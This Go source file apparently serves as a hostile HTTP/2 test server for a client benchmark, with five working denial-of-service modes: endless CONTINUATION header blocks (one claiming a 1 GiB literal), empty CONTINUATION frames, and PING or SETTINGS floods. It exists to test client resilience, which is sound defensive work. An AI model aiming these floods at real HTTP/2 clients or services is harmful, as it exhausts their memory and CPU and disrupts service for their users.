// Command server is a hostile HTTP/2 (h2c) server for bench/h2flood: on
// every connection it floods the client, without end, in one of the ways
// issue 49 named, until the client closes the connection.
//
//	server -addr 127.0.0.1:18090 -mode literal   # one header literal that claims 1 GiB, sent in CONTINUATION frames
//	server -mode fields                          # a header block of small fields that never ends
//	server -mode empty                           # a header block of empty CONTINUATION frames
//	server -mode ping                            # PING frames, never reading the client
//	server -mode settings                        # SETTINGS frames, never reading the client
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"os"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:18090", "listen address")
	mode := flag.String("mode", "ping", "literal, fields, empty, ping or settings")
	flag.Parse()
	flood, ok := floods()[*mode]
	if !ok {
		fmt.Fprintf(os.Stderr, "server: unknown -mode %q; use literal, fields, empty, ping or settings\n", *mode)
		os.Exit(2)
	}
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatal(err)
	}
	for {
		c, err := ln.Accept()
		if err != nil {
			log.Fatal(err)
		}
		go serve(c, flood)
	}
}

// serve reads the client's preface, sends SETTINGS, then floods.
func serve(c net.Conn, flood func(c net.Conn)) {
	defer c.Close()
	preface := make([]byte, len(http2.ClientPreface))
	if _, err := io.ReadFull(c, preface); err != nil {
		return
	}
	http2.NewFramer(c, nil).WriteSettings()
	flood(c)
}

// floods are the modes: each writes until the connection fails.
func floods() map[string]func(c net.Conn) {
	var small bytes.Buffer
	enc := hpack.NewEncoder(&small)
	for small.Len() < 16000 {
		enc.WriteField(hpack.HeaderField{Name: "x-many", Value: "v", Sensitive: true})
	}
	status := hpackStatus200()
	return map[string]func(c net.Conn){
		"literal":  headerFlood(hugeLiteral(1<<30), bytes.Repeat([]byte("a"), 16000)),
		"fields":   headerFlood(status, small.Bytes()),
		"empty":    headerFlood(status, nil),
		"ping":     repeat(frame(func(fr *http2.Framer) { fr.WritePing(false, [8]byte{1}) })),
		"settings": repeat(frame(func(fr *http2.Framer) { fr.WriteSettings() })),
	}
}

// headerFlood answers the first request with HEADERS holding start, then
// CONTINUATION frames of piece, never ending the block.
func headerFlood(start, piece []byte) func(c net.Conn) {
	return func(c net.Conn) {
		fr := http2.NewFramer(c, c)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			if h, ok := f.(*http2.HeadersFrame); ok {
				go io.Copy(io.Discard, c) // keep reading, so only the block floods
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.StreamID, BlockFragment: start})
				repeat(frame(func(fr *http2.Framer) { fr.WriteContinuation(h.StreamID, false, piece) }))(c)
				return
			}
		}
	}
}

// repeat writes f over and over, in 64 KiB batches, never reading.
func repeat(f []byte) func(c net.Conn) {
	batch := bytes.Repeat(f, max(1, (64<<10)/len(f)))
	return func(c net.Conn) {
		for {
			if _, err := c.Write(batch); err != nil {
				return
			}
		}
	}
}

func frame(write func(fr *http2.Framer)) []byte {
	var b bytes.Buffer
	write(http2.NewFramer(&b, nil))
	return b.Bytes()
}

func hpackStatus200() []byte {
	var b bytes.Buffer
	hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: ":status", Value: "200"})
	return b.Bytes()
}

// hugeLiteral starts a literal field whose value claims size bytes and
// holds none of them yet.
func hugeLiteral(size uint64) []byte {
	b := []byte{0x00, 5, 'x', '-', 'b', 'i', 'g', 127}
	size -= 127
	for size >= 128 {
		b = append(b, byte(size%128)|0x80)
		size /= 128
	}
	return append(b, byte(size))
}
